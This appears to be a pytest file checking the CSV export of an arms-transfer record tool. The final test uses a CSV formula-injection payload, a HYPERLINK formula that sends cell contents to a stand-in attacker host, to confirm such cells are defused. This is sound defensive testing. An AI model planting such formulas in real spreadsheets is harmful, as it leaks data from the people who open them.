"""CSV exports: what a spreadsheet user checks, read back with the csv module."""
from __future__ import annotations

import csv
from pathlib import Path

from export_world import QUOTED, QUOTED_RECORDS
from typer.testing import CliRunner

from armstrace.cli import app
from armstrace.export import CSV_FIELDS



def _export(db: Path, out: Path, *args: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(app, ["export",
                                      "--db", str(db), "--format", "csv", "--out", str(out), "--include-rejected", *args])
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_has_the_columns_and_a_row_per_record(export_db, all_records, tmp_path):
    out = tmp_path / "records.csv"
    rows = _export(export_db, out)
    with open(out, encoding="utf-8", newline="") as fh:
        assert next(csv.reader(fh)) == list(CSV_FIELDS)
    assert {row["id"] for row in rows} == set(all_records)


def test_csv_keeps_commas_quotes_and_line_breaks_in_evidence(export_db, tmp_path):
    rows = _export(export_db, tmp_path / "records.csv")
    row = next(row for row in rows if row["id"] == QUOTED_RECORDS[0].record_id)
    assert row["evidence"] == QUOTED
    assert (row["weapons"], row["quantity_min"], row["quantity_max"], row["violates"]) == ("kn-23;kn-24", "6", "",
                                                                                          "UNSCR-1718")


def test_csv_carries_the_review(export_db, world, tmp_path):
    rows = _export(export_db, tmp_path / "records.csv")
    reviewed = {row["id"]: row for row in rows if row["review"]}
    row = reviewed[world["iran-russia"][0].record_id]
    assert (len(reviewed), row["review"], row["reviewer"], row["review_corrections"]) == (
        1, "wrong", "ana", '{"claimant": "GBR"}')


def test_csv_export_is_what_records_prints(export_db, tmp_path):
    out = tmp_path / "records.csv"
    _export(export_db, out, "--actor", "IRN")
    printed = CliRunner().invoke(app, ["records", "--db", str(export_db), "--format", "csv", "--actor", "IRN",
                                       "--include-rejected"])
    assert out.read_bytes() == printed.stdout_bytes


def test_csv_cells_a_spreadsheet_would_run_are_defused():
    """Page text is untrusted: a title like =HYPERLINK(...) must not become a live formula in Excel."""
    import csv as csv_module
    import io

    from armstrace.export.csv import write_table_csv

    rows = [{"title": '=HYPERLINK("http://evil.example/?"&A1,"click")', "speaker": "@SUM(1)",
             "evidence": ["-2+3", "plain sentence"], "quantity_min": -3}]
    out = io.StringIO(newline="")
    write_table_csv(rows, ["title", "speaker", "evidence", "quantity_min"], out)
    row = next(csv_module.DictReader(io.StringIO(out.getvalue())))
    assert row["title"].startswith("'=") and row["speaker"] == "'@SUM(1)"
    assert row["evidence"].startswith("'-2+3") and row["quantity_min"] == "-3"   # numbers stay numbers
